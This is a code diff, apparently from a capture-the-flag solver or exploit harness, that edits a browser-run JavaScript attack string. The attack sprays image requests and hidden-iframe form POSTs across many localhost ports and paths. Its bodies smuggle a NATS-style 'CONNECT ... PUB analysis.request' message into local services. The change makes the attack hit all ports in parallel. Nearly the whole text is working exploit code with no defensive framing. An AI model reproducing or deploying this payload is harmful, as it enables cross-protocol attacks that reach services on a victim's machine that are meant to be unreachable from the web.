@@ -53,7 +53,6 @@ SMUGGLED: Final = "CONNECT {}\r\nPUB analysis.request 2\r\n{}\r\n"
 
 ATTACK: Final = """
 async ([ports, addresses, bodies, giveUpMs]) => {
-    const done = [];
     const within = promise => Promise.race([promise, new Promise(end => setTimeout(end, giveUpMs))]).catch(() => {});
     const image = url => new Promise(end => {
         const element = new Image();
@@ -62,7 +61,7 @@ async ([ports, addresses, bodies, giveUpMs]) => {
     });
     const form = (url, enctype, body) => new Promise(end => {
         const frame = document.createElement("iframe");
-        frame.name = `frame${done.length}-${Math.random()}`;
+        frame.name = `frame-${Math.random()}`;
         document.body.append(frame);
         const element = document.createElement("form");
         Object.assign(element, {method: "POST", action: url, target: frame.name, enctype});
@@ -73,7 +72,7 @@ async ([ports, addresses, bodies, giveUpMs]) => {
         frame.onload = end;
         element.submit();
     });
-    for (const port of ports) {
+    const attack = async port => {
         const sent = [];
         for (const address of addresses) {
             const url = `http://127.0.0.1:${port}${address}`;
@@ -89,10 +88,9 @@ async ([ports, addresses, bodies, giveUpMs]) => {
             for (const address of ["/", "/submit", "/buckets/faplog/logs/planted.csv", "/faplog", "/api/v1/analyses"])
                 sent.push(within(form(`http://127.0.0.1:${port}${address}`, enctype, bodies[0])));
         await Promise.all(sent);
-        for (const element of document.querySelectorAll("iframe, form")) element.remove();
-        done.push(port);
-    }
-    return done;
+        return port;
+    };
+    return await Promise.all(ports.map(attack));
 }
 """
 
